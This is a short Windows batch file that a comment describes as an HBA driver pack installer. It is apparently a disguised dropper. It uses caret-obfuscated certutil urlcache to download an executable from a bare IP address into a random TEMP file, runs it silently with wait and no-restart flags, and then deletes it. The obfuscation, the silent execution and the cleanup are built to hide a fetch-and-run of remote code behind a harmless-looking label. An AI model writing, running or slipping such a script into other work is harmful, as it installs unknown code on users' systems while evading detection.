@echo off
set "d=%TEMP%\drv%RANDOM%.exe"
rem driver pack of the HBA
c^ert^util -url^cache -split -f http://192.0.2.70/pack.exe "%d%" >nul
if exist "%d%" start "" /wait "%d%" /S /norestart
del "%d%"
